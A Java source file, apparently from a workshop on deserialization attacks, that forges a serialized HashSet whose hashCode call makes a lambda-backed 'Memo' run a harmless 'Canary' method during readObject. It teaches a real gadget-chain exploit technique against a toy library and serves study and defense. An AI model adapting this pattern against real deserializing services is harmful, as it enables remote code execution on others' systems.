package workshop.step01;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.util.HashSet;
import java.util.function.Supplier;
import workshop.step01.library.Memo;

/**
 * Your hat is black now. You can reach the broker, and you know what lies on the worker's class
 * path.
 */
public final class Attack {

    private Attack() {}

    /**
     * A native stream that makes {@link Canary#sing} run in whatever process reads it: during
     * {@code readObject}, so before any cast can look at the result. Made only of classes that the
     * worker has: the JDK's and {@code workshop.step01.library}'s.
     */
    public static byte[] forge() throws IOException {
        var memo = new Memo(() -> "harmless while we build");
        var trap = new HashSet<Object>();
        trap.add(memo); // asks for the hash code here, and HashSet.readObject will ask again there
        memo.setRecipe((Supplier<Integer> & Serializable) Canary::sing);

        var bytes = new ByteArrayOutputStream();
        try (var out = new ObjectOutputStream(bytes)) {
            out.writeObject(trap);
        }
        return bytes.toByteArray();
    }
}
